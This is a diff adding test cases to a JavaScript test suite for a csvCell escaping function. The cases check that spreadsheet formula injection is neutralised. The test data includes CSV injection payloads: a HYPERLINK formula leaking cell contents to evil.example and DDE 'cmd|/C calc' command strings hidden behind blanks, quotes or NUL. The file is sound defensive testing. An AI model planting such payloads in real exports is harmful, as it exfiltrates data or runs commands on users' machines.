@@ -12,6 +12,31 @@ describe('csvCell', () => {
     expect(csvCell(hostile)).toBe(expected);
   });
 
+  it.each([
+    [' =HYPERLINK("http://evil.example/?x="&A1,"click")', `"' =HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    ['   +cmd|/C calc!A0', `"'   +cmd|/C calc!A0"`],
+    ['\u00a0-2+3+cmd|/C calc!A0', `"'\u00a0-2+3+cmd|/C calc!A0"`],
+    ['\n@SUM(1+1)*cmd|/C calc!A0', `"'\n@SUM(1+1)*cmd|/C calc!A0"`],
+    ['"=HYPERLINK(""http://evil.example"")"', `"'""=HYPERLINK(""""http://evil.example"""")"""`],
+    [' "=1+1', `"' ""=1+1"`],
+    ["'=1+1", `"''=1+1"`],
+    ['\u3000=1+1', `"'\u3000=1+1"`],
+  ])(
+    'neutralises the formula %j hidden behind leading blanks or quotes, which a spreadsheet may drop',
+    (hostile, expected) => {
+      expect(csvCell(hostile)).toBe(expected);
+    },
+  );
+
+  it('neutralises a cell starting with NUL (OWASP ASVS 1.2.10)', () => {
+    expect(csvCell('\0=1+1')).toBe(`"'\0=1+1"`);
+  });
+
+  it('leaves text with leading blanks or quotes and no formula trigger behind them alone', () => {
+    expect(csvCell('  claims.csv')).toBe('"  claims.csv"');
+    expect(csvCell('"quoted" name')).toBe('"""quoted"" name"');
+  });
+
   it('quotes plain text and doubles its quotes, so commas and line breaks stay inside the cell', () => {
     expect(csvCell('claims.csv')).toBe('"claims.csv"');
     expect(csvCell('a,"b"\r\n=c')).toBe('"a,""b""\r\n=c"');
